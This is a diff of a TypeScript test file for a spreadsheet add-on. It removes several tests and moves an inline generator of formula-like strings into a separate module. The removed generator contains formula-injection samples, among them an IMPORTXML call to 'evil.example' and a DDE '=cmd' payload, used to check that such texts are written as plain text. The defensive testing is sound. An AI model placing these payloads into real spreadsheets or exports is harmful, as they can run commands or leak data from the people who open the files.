@@ -4,7 +4,8 @@ import { expect, it } from 'vitest';
 import type { CellValue } from '../../../addon/host/types.ts';
 import { scripted } from '../server/bulk-orders.ts';
 import { openSidebar, type Sidebar } from '../server/sidebar.ts';
-import { shownOf, withSheet } from '../server/state.ts';
+import { withSheet } from '../server/state.ts';
+import { nasty } from './nasty-texts.ts';
 
 /** Writes the rows of a scripted request to a new sheet. */
 async function wrote(bar: Sidebar, id: string) {
@@ -12,24 +13,9 @@ async function wrote(bar: Sidebar, id: string) {
   return bar.finish(await bar.value('writeBulk', { id, where, mode: 'replace', title: 'Rows' }));
 }
 
-const texts = fc.oneof(
-  fc
-    .tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", ' ='), fc.string({ maxLength: 20 }))
-    .map(([start, rest]) => start + rest),
-  fc.constantFrom(
-    '=IMPORTXML("https://evil.example", "//a")',
-    "=cmd|'/c calc'!A0",
-    '+1 555 010 999',
-    '1/2',
-    '007',
-    'TRUE',
-    "''=1",
-  ),
-);
-
 it('5,000 rows of texts that look like formulas land as texts, each once, a block a step', async () => {
   const names = ['id', 'name', 'headline'];
-  const wild = fc.sample(texts, { seed: 20261122, numRuns: 10_000 });
+  const wild = fc.sample(nasty, { seed: 20261122, numRuns: 10_000 });
   const rows = Array.from({ length: 5000 }, (_, at): CellValue[] => [
     at % 2 === 0 ? `${7_123_456_789_012_345_000n + BigInt(at)}` : at,
     wild[at] ?? '',
@@ -57,17 +43,6 @@ it('5,000 rows of texts that look like formulas land as texts, each once, a bloc
   await bar.value('undo', { runId: done.runId });
   expect(bar.workbook().sheets.map(({ name }) => name)).toEqual(['Sheet1']);
 }, 120_000);
-
-it('a step of many columns takes fewer rows, so that it ends in time', async () => {
-  const names = Array.from({ length: 100 }, (_, at) => (at === 0 ? 'id' : `f${at}`));
-  const rows = Array.from({ length: 900 }, (_, at) => names.map((_name, column) => at * 100 + column));
-  const request = scripted(rows, names);
-  const bar = await openSidebar({ fetch: request.fetch });
-  expect(await wrote(bar, request.id)).toMatchObject({ state: 'done', rows: 900 });
-  const limits = bar.calls().flatMap((call) => /limit=(\d+)/.exec(call)?.[1] ?? []);
-  expect(limits).toEqual(['400', '400', '400']);
-  expect(bar.values('Rows')).toHaveLength(901);
-});
 
 it('rows without an id, and ids that come twice, do no harm', async () => {
   const request = scripted([
@@ -168,27 +143,6 @@ it('however rows meet those that stand there, each id stands once, and nothing t
   );
 }, 180_000);
 
-it('an update of rows here and there is taken back as it was', async () => {
-  const rows = Array.from({ length: 40 }, (_, at): CellValue[] => [at + 1, `https://x.example/${at + 1}`]);
-  const request = scripted(rows);
-  const bar = await openSidebar({ fetch: request.fetch });
-  const { tableId } = await wrote(bar, request.id);
-  bar.edit((workbook) =>
-    withSheet(workbook, 'Rows', ({ values }) => ({
-      values: values.slice(0, 38).map(([id = '', name = ''], at) => [id, at % 3 === 1 ? `old ${at}` : name]),
-      links: [],
-    })),
-  );
-  const before = shownOf(bar.sheet('Rows'));
-  const where = { kind: 'table', tableId } as const;
-  const order = { id: request.id, where, mode: 'update', title: 'Rows', confirmed: true } as const;
-  const done = await bar.finish(await bar.value('writeBulk', order));
-  expect(done).toMatchObject({ state: 'done', rows: 13 + 3 });
-  expect(bar.values('Rows').slice(1, 41)).toEqual(rows);
-  expect(await bar.ask('undo', { runId: done.runId })).toMatchObject({ ok: true });
-  expect(shownOf(bar.sheet('Rows'))).toEqual(before);
-});
-
 it('a column of somebody’s own among the table’s stays, wherever a step is cut off', async () => {
   const rows = Array.from({ length: 6 }, (_, at): CellValue[] => [at + 1, `name ${at + 1}`]);
   const request = scripted(rows.slice(0, 2));
@@ -234,18 +188,4 @@ it('a column of somebody’s own among the table’s stays, wherever a step is c
     expect(again.values('Rows')).toEqual(expected);
     again.close();
   }
-});
-
-// "Numbers stay numbers … ids of 19 digits stay text": the same on every path.
-it('ids that a number holds are numbers, those of 19 digits are texts', async () => {
-  const request = scripted([
-    [7, 'short'],
-    ['7123456789012345678', 'long'],
-  ]);
-  const bar = await openSidebar({ fetch: request.fetch });
-  await wrote(bar, request.id);
-  expect(bar.values('Rows').slice(1)).toEqual([
-    [7, 'short'],
-    ['7123456789012345678', 'long'],
-  ]);
 });
